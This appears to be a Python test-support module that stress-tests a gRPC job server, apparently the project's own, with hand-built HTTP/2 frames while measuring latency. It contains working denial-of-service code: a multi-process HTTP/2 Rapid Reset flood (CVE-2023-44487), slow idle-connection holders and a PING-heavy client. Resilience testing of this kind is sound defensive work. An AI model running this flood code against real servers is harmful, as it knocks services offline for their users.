"""Clients that mean no good, and one that does: raw HTTP/2 over sockets, and figures of calls."""

from __future__ import annotations

import contextlib
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Callable, Optional

sys.path.append(str(Path(__file__).parents[2] / "client/python"))

import grpc  # noqa: E402

from hearth.v1 import admin_pb2, jobs_pb2, spec_pb2  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
_ACK = _END_STREAM = 1
_END_HEADERS = 4
_INITIAL_WINDOW_SIZE = 4


def address_of(text: str) -> tuple[str, int]:
    host, port = text.rsplit(":", 1)
    return host, int(port)


def frame(kind: int, stream: int, payload: bytes = b"", flags: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def opening() -> bytes:
    return PREFACE + frame(_SETTINGS, 0)


def _literal(name: bytes, value: bytes) -> bytes:
    """A header field of HPACK that needs no table (RFC 7541, 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_header(path: bytes) -> bytes:
    """The header block of a call of gRPC."""
    return b"".join(_literal(name, value) for name, value in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
        (b":authority", b"localhost"), (b"te", b"trailers"),
        (b"content-type", b"application/grpc")))


STATUS = b"/hearth.v1.Admin/GetStatus"


def resets(first_stream: int, count: int) -> bytes:
    """Calls that are given up at once (CVE-2023-44487)."""
    header = call_header(STATUS)
    return b"".join(
        frame(_HEADERS, stream, header, _END_HEADERS) +
        frame(_RESET, stream, struct.pack(">I", 8))
        for stream in range(first_stream, first_stream + 2 * count, 2))


def connect(address: str) -> socket.socket:
    connection = socket.create_connection(address_of(address), timeout=10)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def reset_rapidly(address: str, seconds: float) -> tuple[int, int]:
    """Floods with calls that it gives up, on a connection after the other. Returns how many it
    has sent, and by how many connections."""
    end = time.monotonic() + seconds
    sent = connections = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(address) as connection:
            connections += 1
            connection.sendall(opening())
            stream = 1
            while time.monotonic() < end and stream < 1 << 30:
                connection.sendall(resets(stream, 200))
                stream += 400
                sent += 200
                _drop_answers(connection)
    return sent, connections


def _drop_answers(connection: socket.socket) -> None:
    connection.setblocking(False)
    try:
        while connection.recv(1 << 16):
            pass
        raise ConnectionError("closed by the server")
    except BlockingIOError:
        pass
    finally:
        connection.settimeout(10)


class MeasuringClient:
    """A call by a client that measures how much fits the way, as grpc-go does: whenever data
    comes, and no PING is under way, it sends one. Its window is small, so that data comes often.
    """

    def __init__(self, address: str, path: bytes, window_bytes: int) -> None:
        self._connection = connect(address)
        self._received = self._connection.makefile("rb")
        self._path, self._window_bytes = path, window_bytes
        self._awaits_ping = False
        self.pings = 0

    def call(self, request: Any) -> list[bytes]:
        """The messages of a stream of answers. Fails if it is broken off."""
        with self._connection:
            message = request.SerializeToString()
            self._connection.sendall(
                PREFACE +
                frame(_SETTINGS, 0, struct.pack(">HI", _INITIAL_WINDOW_SIZE, self._window_bytes)) +
                frame(_HEADERS, 1, call_header(self._path), _END_HEADERS) +
                frame(_DATA, 1, struct.pack(">BI", 0, len(message)) + message, _END_STREAM))
            body = b"".join(self._data())
        messages = []
        while body:
            size = struct.unpack_from(">BI", body)[1]
            messages.append(body[5:5 + size])
            body = body[5 + size:]
        return messages

    def _data(self) -> Iterator[bytes]:
        while True:
            head = self._received.read(9)
            assert len(head) == 9, f"the connection was closed after {self.pings} PINGs"
            size, kind, flags = int.from_bytes(head[:3], "big"), head[3], head[4]
            payload = self._received.read(size)
            assert kind not in (_RESET, _GOAWAY), f"{self.pings} PINGs, then {payload!r}"
            answer = b""
            if kind == _DATA:
                yield payload
                if size:
                    answer = b"".join(frame(_WINDOW_UPDATE, stream, struct.pack(">I", size))
                                      for stream in (0, 1))
                if not self._awaits_ping:
                    self._awaits_ping = True
                    self.pings += 1
                    answer += frame(_PING, 0, b"measured")
            elif kind == _PING and flags & _ACK:
                self._awaits_ping = False
            elif kind in (_PING, _SETTINGS) and not flags & _ACK:
                answer = frame(kind, 0, payload if kind == _PING else b"", _ACK)
            if kind in (_DATA, _HEADERS) and flags & _END_STREAM:
                return
            self._connection.sendall(answer)


class Idlers:
    """Connections that say nothing, or too little, and are made anew when they are closed."""

    def __init__(self, address: str, count: int, beginning: bytes = b"") -> None:
        self._address, self._beginning = address, beginning
        self._connections = [self._connect() for _ in range(count)]

    def _connect(self) -> Optional[socket.socket]:
        with contextlib.suppress(OSError):
            connection = connect(self._address)
            connection.setblocking(False)
            connection.send(self._beginning)
            return connection
        return None

    def drip(self, piece: bytes = b"") -> int:
        """Sends a piece more by each, and makes those anew that are closed; how many were."""
        renewed = 0
        for i, connection in enumerate(self._connections):
            try:
                if connection is None or (piece and not connection.send(piece)):
                    raise OSError
                if connection.recv(1, socket.MSG_PEEK) == b"":
                    raise OSError
            except BlockingIOError:
                continue
            except OSError:
                if connection is not None:
                    connection.close()
                self._connections[i] = self._connect()
                renewed += 1
        return renewed

    def close(self) -> None:
        for connection in self._connections:
            if connection is not None:
                connection.close()


class Worker:
    """A client that calls again and again. Counts what fails, and notes how long answers take."""

    def __init__(self, call: Callable[[], object]) -> None:
        self._call = call
        self.seconds: list[float] = []
        self.failures: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            begin = time.monotonic()
            try:
                self._call()
            except Exception as error:  # pylint: disable=broad-except
                self.failures.append(repr(error)[:300])
            self.seconds.append(time.monotonic() - begin)
            self._stop.wait(0.02)

    def end(self) -> None:
        self._stop.set()
        self._thread.join()

    @property
    def figures(self) -> str:
        return figures_of(self.seconds)


def figures_of(seconds: list[float]) -> str:
    ordered = sorted(seconds)
    return (f"{len(ordered)} calls, median {1000 * ordered[len(ordered) // 2]:.1f} ms, "
            f"p99 {1000 * ordered[int(len(ordered) * 0.99)]:.1f} ms, "
            f"longest {1000 * ordered[-1]:.0f} ms")


def method(channel: grpc.Channel, name: str, response: Any) -> Callable[..., Any]:
    """A unary call, as "Admin/GetStatus", that is not tried again."""
    return channel.unary_unary(f"/hearth.v1.{name}",
                               request_serializer=lambda request: request.SerializeToString(),
                               response_deserializer=response.FromString)


@contextlib.contextmanager
def calling(channel: grpc.Channel) -> Iterator[Worker]:
    """A client that asks for the status throughout."""
    with channel:
        status = method(channel, "Admin/GetStatus", admin_pb2.Status)
        # It is there before the flood.
        status(admin_pb2.GetStatusRequest(), timeout=60)
        worker = Worker(lambda: status(admin_pb2.GetStatusRequest(), timeout=10))
        try:
            yield worker
        finally:
            worker.end()


class Attack:
    """reset_rapidly by several processes at the same time."""

    def __init__(self, address: str, seconds: float, attackers: int) -> None:
        self._processes = [
            subprocess.Popen([sys.executable, __file__, address, str(seconds)],
                             stdout=subprocess.PIPE, text=True) for _ in range(attackers)]

    def end(self) -> tuple[int, int]:
        """Waits; streams and connections in all."""
        counts = []
        for process in self._processes:
            out, _ = process.communicate(timeout=600)
            assert process.returncode == 0
            counts.append([int(word) for word in out.split()])
        return sum(count[0] for count in counts), sum(count[1] for count in counts)


def submit(address: str, spec: spec_pb2.JobSpec, count: int, at_a_time: int) -> list[float]:
    """Submits equal jobs, so many at a time; the seconds that each took."""
    seconds: list[float] = []
    failures: list[str] = []
    left = iter(range(count))
    with grpc.insecure_channel(address) as channel:
        call = method(channel, "Jobs/SubmitJob", jobs_pb2.Job)

        def work() -> None:
            for _ in left:
                begin = time.monotonic()
                try:
                    call(jobs_pb2.SubmitJobRequest(spec=spec), timeout=60)
                except grpc.RpcError as error:
                    failures.append(str(error))
                seconds.append(time.monotonic() - begin)

        threads = [threading.Thread(target=work) for _ in range(at_a_time)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    assert not failures, failures[:3]
    return seconds


class Submitters:
    """submit() by several processes at the same time."""

    def __init__(self, address: str, spec: spec_pb2.JobSpec, count: int, processes: int = 2,
                 at_a_time: int = 16) -> None:
        self._begin = time.monotonic()
        self._processes = [
            subprocess.Popen([sys.executable, __file__, "submit", address,
                              spec.SerializeToString().hex(), str(count // processes),
                              str(at_a_time)],
                             stdout=subprocess.PIPE, text=True) for _ in range(processes)]

    def end(self) -> tuple[list[float], float]:
        """The seconds of each call, and of all."""
        seconds = []
        for process in self._processes:
            out, _ = process.communicate()
            assert process.returncode == 0
            seconds += [float(word) for word in out.split()]
        return seconds, time.monotonic() - self._begin


if __name__ == "__main__":
    if sys.argv[1] == "submit":
        print(*submit(sys.argv[2], spec_pb2.JobSpec.FromString(bytes.fromhex(sys.argv[3])),
                      int(sys.argv[4]), int(sys.argv[5])))
    else:
        print(*reset_rapidly(sys.argv[1], float(sys.argv[2])))
